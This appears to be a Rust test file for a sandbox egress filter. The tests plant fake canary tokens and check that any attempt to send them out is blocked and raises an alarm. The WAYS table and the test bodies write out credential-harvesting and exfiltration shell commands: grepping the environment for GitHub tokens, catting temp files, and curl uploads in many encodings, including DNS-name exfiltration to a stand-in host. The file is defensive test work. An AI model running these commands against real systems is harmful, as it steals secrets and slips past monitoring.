//! False credentials that a run plants: they look right, they stand in nobody's
//! way, and whatever sends one is stopped and raises an alarm.

use std::fs;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, TcpListener};
use std::thread;

use outgate_harness::audit::{of_kind, records, text};
use outgate_harness::{Identity, Lab, Sandbox, lab_tests};

use crate::{Recorder, bash, confined, thief};

/// Looks for credentials as a thief does: `$C` is a token of the environment,
/// `$F` all that lies in files.
const SEARCH: &str =
    "C=$(env | grep -o 'ghp_[A-Za-z0-9]*'); F=$(find $TMPDIR -type f -exec cat {} +); ";

/// What it does with them, and which way that is.
const WAYS: &[(&str, &str)] = &[
    ("content", "curl -sS --data-binary \"$C\" $URL/"),
    ("field", "curl -sS -H \"x: $C\" $URL/"),
    ("query", "curl -sS \"$URL/?q=$C\""),
    // Where it loses its capitals.
    ("name of a field", "curl -sS -H \"x-$C: 1\" $URL/"),
    (
        "name in a document",
        "curl -sS --json \"{\\\"$C\\\": 1}\" $URL/",
    ),
    (
        "gzip",
        "printf %s \"$C\" | gzip | curl -sS --data-binary @- $URL/",
    ),
    (
        "bzip2",
        "printf %s \"$C\" | python3 -c 'import bz2, lzma, sys; i = sys.stdin.buffer.read(); sys.stdout.buffer.write(bz2.compress(i))' | curl -sS --data-binary @- $URL/",
    ),
    (
        "xz",
        "printf %s \"$C\" | python3 -c 'import bz2, lzma, sys; i = sys.stdin.buffer.read(); sys.stdout.buffer.write(lzma.compress(i))' | curl -sS --data-binary @- $URL/",
    ),
    (
        "lzma",
        "printf %s \"$C\" | python3 -c 'import bz2, lzma, sys; i = sys.stdin.buffer.read(); sys.stdout.buffer.write(lzma.compress(i, format=lzma.FORMAT_ALONE))' | curl -sS --data-binary @- $URL/",
    ),
    (
        "xz in bzip2",
        "printf %s \"$C\" | python3 -c 'import bz2, lzma, sys; i = sys.stdin.buffer.read(); sys.stdout.buffer.write(bz2.compress(lzma.compress(i, preset=4)))' | curl -sS --data-binary @- $URL/",
    ),
    (
        "base 64",
        "printf a%s \"$C\" | base64 -w0 | curl -sS --data-binary @- $URL/",
    ),
    (
        "reversed",
        "printf %s \"$C\" | rev | curl -sS --data-binary @- $URL/",
    ),
    (
        "hex",
        "printf %s \"$C\" | od -An -v -tx1 | tr -d ' \\n' | curl -sS --data-binary @- $URL/",
    ),
    ("split", "curl -sS \"$URL/?a=${C:0:20}&b=${C:20}\""),
    (
        "issuer",
        "curl -sS -H \"Authorization: Bearer $C\" http://api.github.com:8099/user",
    ),
    (
        "all of the environment",
        "env | curl -sS --data-binary @- $URL/",
    ),
    (
        "files",
        "printf %s \"$F\" | gzip | curl -sS --data-binary @- $URL/",
    ),
    (
        "one line of a file",
        "printf %s \"$F\" | grep secret_access | curl -sS --data-binary @- $URL/",
    ),
];

fn sandbox(lab: &Lab) -> Sandbox<'_> {
    confined(lab, Identity::Own)
        .allow("http://api.github.com:8099")
        .pin("api.github.com:8099=127.0.0.1:8099")
}

fn attempt(lab: &Lab, thief: &Recorder, options: &[(&str, &str)], (name, way): (&str, &str)) {
    let file = lab.folder("records", Identity::Own).join("canary.jsonl");
    fs::remove_file(&file).ok();
    let mut sandbox = sandbox(lab).option("--audit", &file.to_string_lossy());
    for (option, value) in options {
        sandbox = sandbox.option(option, value);
    }
    let script = format!("{SEARCH} {way}; printf '%s\n' \"CANARY=$C\"");
    let outcome = sandbox.run(&bash(&script));
    assert_eq!(thief.take(), b"", "{name}: nothing arrives: {outcome}");
    assert!(
        outcome.stderr.contains("outgate: ALARM: denied"),
        "{name}: {outcome}"
    );
    assert!(outcome.stderr.contains("canary"), "{name}: {outcome}");
    assert!(
        outcome.stdout.contains("outgate denied"),
        "{name}: {outcome}"
    );
    // Who took it is not told what it is.
    assert!(!outcome.stdout.contains("canary"), "{name}: {outcome}");
    let canary = outcome
        .stdout
        .lines()
        .find_map(|line| line.strip_prefix("CANARY="));
    let canary = canary.expect("a canary").to_owned();
    assert_eq!(canary.len(), 40, "{name}: {outcome}");
    let records = records(&file);
    let alarms = of_kind(&records, "canary");
    assert!(!alarms.is_empty(), "{name}: {records:?}");
    for alarm in alarms {
        assert_eq!(alarm["alarm"], true, "{alarm}");
        assert_eq!(text(alarm, "verdict"), "deny", "{alarm}");
        assert_eq!(text(alarm, "reason"), "canary", "{alarm}");
    }
    let written = fs::read_to_string(&file).expect("the record");
    assert!(!written.contains(&canary[4..]), "{name}: {written}");
    assert!(
        !outcome.stderr.contains(&canary[4..20]),
        "{name}: {outcome}"
    );
}

/// An origin that has what lies in a file, on a way that nobody saw, and sends it
/// back as the path says. It ends with the test's process.
fn giver(file: std::path::PathBuf) {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, crate::PORT)).expect("a port");
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut head = Vec::new();
            while !head.ends_with(b"\r\n\r\n") {
                let mut byte = [0];
                stream.read_exact(&mut byte).expect("a head");
                head.push(byte[0]);
            }
            let head = String::from_utf8_lossy(&head).into_owned();
            let canary = fs::read_to_string(&file).unwrap_or_default();
            let said = if head.contains("/other") {
                "nothing"
            } else {
                canary.trim()
            };
            let around = "some text around it. ".repeat(2000);
            let content = format!("{around}{said}{around}").into_bytes();
            let (content, coding) = match head.split(' ').nth(1) {
                Some("/plain") => (content, "identity"),
                Some("/twice") => (gzip(&gzip(&content)), "gzip, gzip"),
                _ => (gzip(&content), "gzip"),
            };
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Encoding: {coding}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                content.len(),
            );
            stream.write_all(head.as_bytes()).expect("a client");
            for piece in content.chunks(100) {
                stream.write_all(piece).expect("a client");
                stream.flush().expect("a client");
            }
        }
    });
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let piped = || std::process::Stdio::piped();
    let mut command = std::process::Command::new("gzip");
    let mut child = command
        .stdin(piped())
        .stdout(piped())
        .spawn()
        .expect("gzip");
    let mut input = child.stdin.take().expect("its input");
    input.write_all(bytes).expect("its input");
    drop(input);
    child.wait_with_output().expect("gzip").stdout
}

lab_tests! {
    fn a_canary_that_comes_back_is_seen_through_its_coding(lab) {
        let file = lab.folder("work", Identity::Own).join("taken");
        giver(file.clone());
        for (path, alarms) in [("plain", true), ("gzip", true), ("twice", true), ("other", false)] {
            fs::remove_file(&file).ok();
            let file = file.display();
            let script = format!("{SEARCH} printf %s \"$C\" > {file}; curl -sS $URL/{path} | wc -c");
            let outcome = sandbox(lab).run(&bash(&script));
            assert_eq!(outcome.code, Some(0), "{path}: {outcome}");
            assert_ne!(outcome.stdout.trim(), "0", "{path}: nothing is held back: {outcome}");
            let alarm = "content of a response holds a canary";
            assert_eq!(outcome.stderr.contains(alarm), alarms, "{path}: {outcome}");
        }
    }

    fn a_canary_leaves_in_no_form_and_raises_an_alarm(lab) {
        let thief = thief();
        for way in WAYS {
            attempt(lab, &thief, &[], *way);
        }
        // Not even where findings are only recorded.
        for way in &WAYS[..3] {
            attempt(lab, &thief, &[("--inspect", "warn")], *way);
        }
    }

    fn no_name_is_asked_for_that_holds_a_canary(lab) {
        let names = outgate_harness::names::Names::start(vec![Ipv4Addr::LOCALHOST]);
        let script = format!("{SEARCH} curl -sS --max-time 5 http://$C.drop.example:8099/");
        let outcome = sandbox(lab).allow("http://*.drop.example:8099").run(&bash(&script));
        assert_ne!(outcome.code, Some(0), "{outcome}");
        assert!(outcome.stderr.contains("outgate: ALARM: denied"), "{outcome}");
        assert!(names.asked().is_empty(), "{:?}", names.asked());
    }

    fn no_number_of_denials_drowns_an_alarm(lab) {
        let thief = thief();
        let flood = "for i in {1..80}; do curl -s http://n$i.denied.example:8099/; done; ";
        let script = format!("{SEARCH} {flood} curl -sS --data-binary \"$C\" $URL/");
        let outcome = sandbox(lab).run(&bash(&script));
        assert_eq!(thief.take(), b"", "{outcome}");
        assert!(outcome.stderr.contains("further denials are only in the audit record"), "{outcome}");
        assert!(outcome.stderr.contains("outgate: ALARM: denied"), "{outcome}");
        assert!(outcome.stderr.contains("outgate: 1 ALARM; "), "{outcome}");
    }

    fn canaries_stand_in_nobodys_way(lab) {
        let thief = thief();
        let script = format!("{SEARCH} curl -sS $URL/; env; find $TMPDIR -type f; echo $C");
        let mut seen = Vec::new();
        for _ in 0..3 {
            let outcome = sandbox(lab).run(&bash(&script));
            assert!(outcome.stdout.starts_with("arrived\n"), "{outcome}");
            assert!(!outcome.stderr.contains("outgate"), "{outcome}");
            assert_ne!(thief.take(), b"");
            // What programs look for is left alone.
            for name in ["\nGITHUB_TOKEN=", "\nGH_TOKEN=", "\nAWS_ACCESS_KEY_ID=", "/.npmrc\n", "/.aws/credentials\n"] {
                assert!(!outcome.stdout.contains(name), "{name}: {outcome}");
            }
            seen.push(outcome.stdout.lines().last().unwrap_or_default().to_owned());
        }
        seen.sort();
        seen.dedup();
        assert_eq!(seen.len(), 3, "every run has its own: {seen:?}");
        assert!(fs::read_dir(lab.folder("tmp", Identity::Own)).is_ok_and(|mut left| left.next().is_none()));
    }

    fn there_are_none_where_nothing_leaves_or_nobody_wants_them(lab) {
        let script = "env | grep -c ghp_; grep -rlE 'npm_|AKIA' $TMPDIR | wc -l";
        let outcome = sandbox(lab).run(&bash(script));
        assert_eq!(outcome.stdout, "1\n2\n", "{outcome}");
        for (option, value) in [("--canaries", "off"), ("--inspect", "off")] {
            let outcome = sandbox(lab).option(option, value).run(&bash(script));
            assert_eq!(outcome.stdout, "0\n0\n", "{option}: {outcome}");
        }
        let outcome = Sandbox::plain(lab, Identity::Own).run(&bash(script));
        assert_eq!(outcome.stdout, "0\n0\n", "{outcome}");
    }
}
